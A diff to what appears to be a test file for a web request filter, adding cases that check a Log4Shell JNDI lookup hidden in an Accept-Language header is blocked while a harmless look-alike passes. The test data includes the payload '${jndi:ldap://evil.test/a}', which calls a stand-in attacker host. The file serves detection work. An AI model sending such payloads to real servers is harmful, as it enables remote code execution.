@@ -136,6 +136,16 @@ describe("an attack is blocked and its look-alike passes", () => {
     await expectPassed(request("GET /node/echo", [lookAlike]));
   });
 
+  test.each([0, 100, 300, 4000])(
+    "a lookup in a header that is not looked at otherwise, %i bytes before it",
+    async (length) => {
+      const before = `Accept: ${"x".repeat(length)}`;
+      await expectBlocked(request("GET /node/echo", [before, "Accept-Language: ${jndi:ldap://evil.test/a}"]), "log4j");
+      await expectBlocked(request("GET /node/echo", ["Accept-Language: ${jndi:ldap://evil.test/a}", before]), "log4j");
+      await expectPassed(request("GET /node/echo", [before, "Accept-Language: $jndi"]));
+    },
+  );
+
   test("in a trailer", async () => {
     const bytes = (trailer: string) =>
       request("POST /node/echo", ["Transfer-Encoding: chunked"], chunked("hello", 5, [trailer]));
